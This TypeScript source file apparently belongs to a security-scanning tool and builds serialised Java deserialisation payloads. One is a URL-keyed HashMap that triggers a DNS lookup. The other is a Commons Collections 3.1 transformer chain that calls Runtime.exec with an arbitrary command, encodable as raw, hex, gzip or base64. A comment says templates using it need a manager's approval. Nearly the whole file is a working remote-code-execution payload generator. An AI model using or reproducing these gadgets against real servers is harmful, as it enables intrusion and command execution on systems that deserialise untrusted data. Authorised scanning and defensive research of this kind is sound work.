import { gzipSync } from 'node:zlib';
import { fromBytes, toBytes } from '../byte-string.ts';
import type { DslFunction } from './function.ts';
import { type GadgetName, gadgetNames } from './gadget-names.ts';
import {
  array,
  bare,
  block,
  classItself,
  end,
  int,
  type JavaClass,
  nothing,
  object,
  objectField,
  plainField,
  streamHead,
  string,
} from './java-stream.ts';
import { DslFault, textOf } from './value.ts';

/*
 * Serialised Java objects that make a server which reads what strangers send show itself. What a template sends with them counts as not
 * safe for its target (`safety-rules.ts`): it needs a Manager's leave.
 */

const floatThreeQuarters = '\x3f\x40\x00\x00';
const floatOne = '\x3f\x80\x00\x00';

const hashMap: JavaClass = {
  name: 'java.util.HashMap',
  uid: '0507dac1c31660d1',
  flags: 3,
  fields: [plainField('F', 'loadFactor'), plainField('I', 'threshold')],
};

/** A map with at most one entry, as its class writes it: capacity, size, then keys and values. */
const map = (...entry: readonly string[]) =>
  object(hashMap, floatThreeQuarters, int(12), block(int(16) + int(entry.length / 2)), ...entry, end);

const urlClass: JavaClass = {
  name: 'java.net.URL',
  uid: '962537361afce472',
  flags: 3,
  fields: [
    plainField('I', 'hashCode'),
    plainField('I', 'port'),
    ...['authority', 'file', 'host', 'protocol', 'ref'].map((name) => objectField(name, 'Ljava/lang/String;')),
  ],
};

/** A map with a URL as its key: whoever reads it looks the name of the URL up, and does nothing else. */
function lookUp(address: string): string {
  const match = /^(?:([a-z][a-z0-9+.-]*):\/\/)?([^/:?#\s]+)(?::([0-9]{1,5}))?([/?][^#\s]*)?/i.exec(address.trim());
  if (!match) throw new DslFault('the gadget needs a URL');
  const [, scheme = 'http', host = '', port, file = ''] = match;
  const authority = port === undefined ? host : `${host}:${port}`;
  const texts = [authority, file, host, scheme].map(string);
  const url = object(urlClass, int(-1), int(port === undefined ? -1 : Number(port)), ...texts, nothing, end);
  return map(url, string(address));
}

const collections = 'org.apache.commons.collections';
const transformers = bare(`[L${collections}.Transformer;`, 'bd562af1d8341899');
const objects = bare('[Ljava.lang.Object;', '90ce589f1073296c');
const classes = bare('[Ljava.lang.Class;', 'ab16d7aecbcd5a99');
const strings = bare('[Ljava.lang.String;', 'add256e7e91d7b47');
const stringClass = bare('java.lang.String', 'a0f0a4387a3bb342');
const objectClass = bare('java.lang.Object', '0000000000000000', 0);
const runtimeClass = bare('java.lang.Runtime', '0000000000000000', 0);

const constantClass: JavaClass = {
  ...bare(`${collections}.functors.ConstantTransformer`, '587690114102b194'),
  fields: [objectField('iConstant', 'Ljava/lang/Object;')],
};
const invokerClass: JavaClass = {
  ...bare(`${collections}.functors.InvokerTransformer`, '87e8ff6b7b7cce38'),
  fields: [
    objectField('iArgs', '[Ljava/lang/Object;'),
    objectField('iMethodName', 'Ljava/lang/String;'),
    objectField('iParamTypes', '[Ljava/lang/Class;'),
  ],
};
const chainClass: JavaClass = {
  ...bare(`${collections}.functors.ChainedTransformer`, '30c797ec287a9704'),
  fields: [objectField('iTransformers', '[Lorg/apache/commons/collections/Transformer;')],
};
const lazyMapClass: JavaClass = {
  ...bare(`${collections}.map.LazyMap`, '6ee594829e791094', 3),
  fields: [objectField('factory', 'Lorg/apache/commons/collections/Transformer;')],
};
const entryClass: JavaClass = {
  ...bare(`${collections}.keyvalue.TiedMapEntry`, '8aadd29b39c11fdb'),
  fields: [objectField('key', 'Ljava/lang/Object;'), objectField('map', 'Ljava/util/Map;')],
};
const hashSet = bare('java.util.HashSet', 'ba44859596b8b734', 3);

/** A set whose one element asks a map that works its values out: a command, where Commons Collections is 3.2.1 or older. */
function runOnCollections(command: string): string {
  const call = (method: string, types: readonly JavaClass[], args: readonly string[]) =>
    object(invokerClass, array(objects, args), string(method), array(classes, types.map(classItself)));
  const chain = array(transformers, [
    object(constantClass, classItself(runtimeClass)),
    call('getMethod', [stringClass, classes], [string('getRuntime'), array(classes, [])]),
    call('invoke', [objectClass, objects], [nothing, array(objects, [])]),
    call('exec', [stringClass], [string(command)]),
    object(constantClass, string('1')),
  ]);
  const lazy = object(lazyMapClass, object(chainClass, chain), map(), end);
  const entry = object(entryClass, string('picket'), lazy);
  return object(hashSet, block(int(2) + floatOne + int(1)), entry, end);
}

const gadgets: Readonly<Record<GadgetName, (argument: string) => string>> = {
  dns: lookUp,
  'commons-collections3.1': runOnCollections,
};

const base64 = (bytes: string) => Buffer.from(bytes, 'latin1').toString('base64');
const gzip = (bytes: string) => fromBytes(gzipSync(toBytes(bytes)));

const forms: Readonly<Record<string, (bytes: string) => string>> = {
  raw: (bytes) => bytes,
  hex: (bytes) => Buffer.from(bytes, 'latin1').toString('hex'),
  gzip,
  'gzip-base64': (bytes) => base64(gzip(bytes)).replaceAll('+', '%2B'),
  'base64-raw': base64,
};

/** `generate_java_gadget(gadget, argument, form)`. Any other form is Base64 whose plus signs stand as in a URL. */
export const gadgetFunctions: Readonly<Record<string, DslFunction>> = {
  generate_java_gadget: {
    least: 3,
    most: 3,
    run(args) {
      const [name = '', argument = '', form = ''] = args.map(textOf);
      const known = gadgetNames.find((gadget) => gadget === name);
      if (known === undefined) throw new DslFault(`there is no gadget "${name.slice(0, 40)}" here`);
      const write = Object.hasOwn(forms, form) ? forms[form] : undefined;
      return (write ?? ((bytes: string) => base64(bytes).replaceAll('+', '%2B')))(
        streamHead + gadgets[known](argument),
      );
    },
  },
};
